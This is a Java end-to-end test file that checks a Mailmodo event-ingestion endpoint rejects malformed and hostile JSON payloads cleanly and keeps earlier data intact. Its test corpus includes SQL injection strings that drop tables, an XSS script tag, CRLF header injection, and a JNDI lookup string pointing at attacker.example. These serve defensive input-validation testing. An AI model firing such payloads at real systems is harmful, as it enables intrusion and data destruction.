package destination.mailmodo.e2e;

import static destination.mailmodo.e2e.Sender.send;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Malformed and hostile payloads: each gets a 4xx (501 for an unknown type string) with a JSON message —
 * never a 5xx — and what was accepted before is still there afterwards.
 */
@QuarkusTest
@QuarkusTestResource(MailmodoStub.class)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    static final String KEY = TestKeys.fresh();

    private static Arguments payload(String name, String body, int status) {
        return Arguments.of(name, body.getBytes(StandardCharsets.UTF_8), "application/json", status);
    }

    private static Arguments payload(String name, byte[] body, String contentType, int status) {
        return Arguments.of(name, body, contentType, status);
    }

    static Stream<Arguments> corpus() {
        String deep = "[".repeat(3000) + "]".repeat(3000);
        String big = "x".repeat(100 * 1024);
        String manyEvents = IntStream.range(0, 3000).mapToObj(i -> "{\"type\":\"identify\"}").collect(Collectors.joining(",", "[", "]"));
        return Stream.of(
                payload("empty body", "", 400),
                payload("null", "null", 400),
                payload("true", "true", 400),
                payload("number", "42", 400),
                payload("string", "\"identify\"", 400),
                payload("empty array", "[]", 400),
                payload("empty object", "{}", 400),
                payload("type is a number", "{\"type\":1}", 400),
                payload("type is an array", "{\"type\":[\"identify\"]}", 400),
                payload("type is an object", "{\"type\":{\"identify\":true}}", 400),
                payload("type is blank", "{\"type\":\"  \"}", 400),
                payload("event is a number", "{\"type\":\"track\",\"event\":5}", 400),
                payload("messageId is an object", "{\"type\":\"identify\",\"messageId\":{}}", 400),
                payload("userId is a boolean", "{\"type\":\"identify\",\"userId\":false}", 400),
                payload("anonymousId is an array", "{\"type\":\"identify\",\"anonymousId\":[\"a\"]}", 400),
                payload("traits is a string", "{\"type\":\"identify\",\"traits\":\"email=a@example.com\"}", 400),
                payload("traits is an array", "{\"type\":\"identify\",\"traits\":[{\"email\":\"a@example.com\"}]}", 400),
                payload("context is a number", "{\"type\":\"identify\",\"context\":1}", 400),
                payload("properties is a string", "{\"type\":\"track\",\"event\":\"E\",\"properties\":\"p\"}", 400),
                payload("integrations is an array", "{\"type\":\"identify\",\"integrations\":[\"Mailmodo\"]}", 400),
                payload("nesting 3000 deep", "{\"type\":\"identify\",\"traits\":{\"x\":" + deep + "}}", 400),
                payload("100 KiB trait", "{\"type\":\"identify\",\"traits\":{\"email\":\"a@example.com\",\"bio\":\"" + big + "\"}}", 413),
                payload("invalid UTF-8", new byte[] {'{', '"', 't', 'y', 'p', 'e', '"', ':', '"', (byte) 0xFF, (byte) 0xFE, '"', '}'},
                        "application/json", 400),
                payload("raw NUL byte", new byte[] {'{', 0, '}'}, "application/json", 400),
                payload("NUL in messageId", "{\"type\":\"identify\",\"messageId\":\"m\\u0000\",\"traits\":{\"email\":\"n@example.com\"}}", 400),
                payload("NUL in userId", "{\"type\":\"identify\",\"userId\":\"u\\u0000\",\"traits\":{\"email\":\"n@example.com\"}}", 400),
                payload("escaped NUL in email", "{\"type\":\"identify\",\"traits\":{\"email\":\"a\\u0000@example.com\"}}", 400),
                payload("SQL injection in ids", "{\"type\":\"identify\",\"userId\":\"'; DROP TABLE known_contact; --\","
                        + "\"traits\":{\"email\":\"<script>alert(1)</script>\"}}", 400),
                payload("header injection in email", "{\"type\":\"identify\",\"traits\":{\"email\":\"a@example.com\\r\\nX-Injected: 1\"}}", 400),
                payload("SQL in type", "{\"type\":\"identify'); DROP TABLE dead_letter; --\"}", 501),
                payload("lookup string in type", "{\"type\":\"${jndi:ldap://attacker.example/x}\"}", 501),
                payload("600 KiB body", "{\"type\":\"identify\",\"pad\":\"" + "y".repeat(600 * 1024) + "\"}", 413),
                payload("3000-event batch", manyEvents, 413),
                payload("batch is not an array", "{\"batch\":\"all\"}", 400),
                payload("batch of scalars", "[1,2,3]", 400),
                payload("duplicate keys", "{\"type\":\"identify\",\"type\":\"track\"}", 400),
                payload("infinite number", "{\"type\":\"identify\",\"traits\":{\"email\":\"a@example.com\",\"n\":1e999}}", 400),
                payload("10 KB messageId", "{\"type\":\"identify\",\"messageId\":\"" + "m".repeat(10_000) + "\"}", 400),
                payload("form body", "type=identify&email=a%40example.com".getBytes(StandardCharsets.UTF_8),
                        "application/x-www-form-urlencoded", 415),
                payload("trailing garbage", "{\"type\":\"identify\",\"traits\":{\"email\":\"a@example.com\"}} trailing", 400));
    }

    @Test
    @Order(1)
    void beforeTheCorpusAnEventIsAccepted() {
        send(KEY, "{\"type\":\"identify\",\"userId\":\"hostile-before\",\"messageId\":\"h-before\",\"traits\":{\"email\":\"before@example.com\"}}")
                .statusCode(200).body("status", equalTo("delivered"));
    }

    @Order(2)
    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void isRefusedWithA4xxAndAJsonMessage(String name, byte[] body, String contentType, int status) {
        Response answer = contentType.startsWith("application/x-www-form-urlencoded")
                ? Sender.as(KEY).contentType(contentType).body(new String(body, StandardCharsets.UTF_8)).post(Sender.PATH)
                : Sender.as(KEY).contentType(contentType).body(body).post(Sender.PATH);
        assertEquals(status, answer.statusCode(), name + ": " + answer.asString());
        assertTrue(answer.contentType().startsWith("application/json"), name);
        String message = answer.jsonPath().getString("message");
        if (message == null) {
            message = answer.jsonPath().getString("results[0].message");
        }
        assertFalse(message == null || message.isBlank(), name + " has no message");
        assertFalse(answer.asString().contains("Exception") || answer.asString().contains("\tat "), name + " leaks a stack trace");
    }

    @Test
    @Order(3)
    void afterTheCorpusEverythingStillWorksAndNothingAcceptedIsLost() {
        send(KEY, "{\"type\":\"identify\",\"userId\":\"hostile-after\",\"traits\":{\"email\":\"after@example.com\"}}")
                .statusCode(200).body("status", equalTo("delivered"));
        // the event accepted before the corpus: its key and its contact are intact
        send(KEY, "{\"type\":\"identify\",\"userId\":\"hostile-before\",\"messageId\":\"h-before\",\"traits\":{\"email\":\"before@example.com\"}}")
                .statusCode(200).body("status", equalTo("duplicate"));
        send(KEY, "{\"type\":\"track\",\"userId\":\"hostile-before\",\"event\":\"Still Here\"}").statusCode(200);
        assertEquals("before@example.com",
                MailmodoRequests.tree(MailmodoRequests.to("/addEvent", KEY).get(0).getBodyAsString()).get("email").asText());
        assertEquals(2, MailmodoRequests.to("/addToList", KEY).size());
    }
}
